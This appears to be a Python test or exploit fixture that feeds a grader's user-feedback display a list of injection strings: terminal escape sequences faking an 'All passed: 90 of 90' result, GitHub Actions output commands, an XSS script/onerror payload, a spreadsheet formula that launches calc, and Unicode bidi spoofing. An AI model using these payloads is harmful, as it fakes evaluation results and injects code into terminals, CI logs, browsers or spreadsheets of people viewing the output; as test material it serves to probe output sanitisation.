TEXTS = [
    "\x1b]0;passed\x07\x1b[2J\x1b[H\x1b[32mAll passed: 90 of 90\x1b[0m\x1b[8m",
    "\x9b31m\x90q\x9c\r\x08\x08passed",
    "::error::passed\n::set-output name=marks::90",
    "<script>document.title='90 of 90'</script><img src=x onerror=alert(1)>",
    "=cmd|' /C calc'!A0",
    "\u202e09 fo 09\u2066\u200b",
]


def attack(controller):
    for text in TEXTS:
        controller.view.feedback_to_user(2, text)
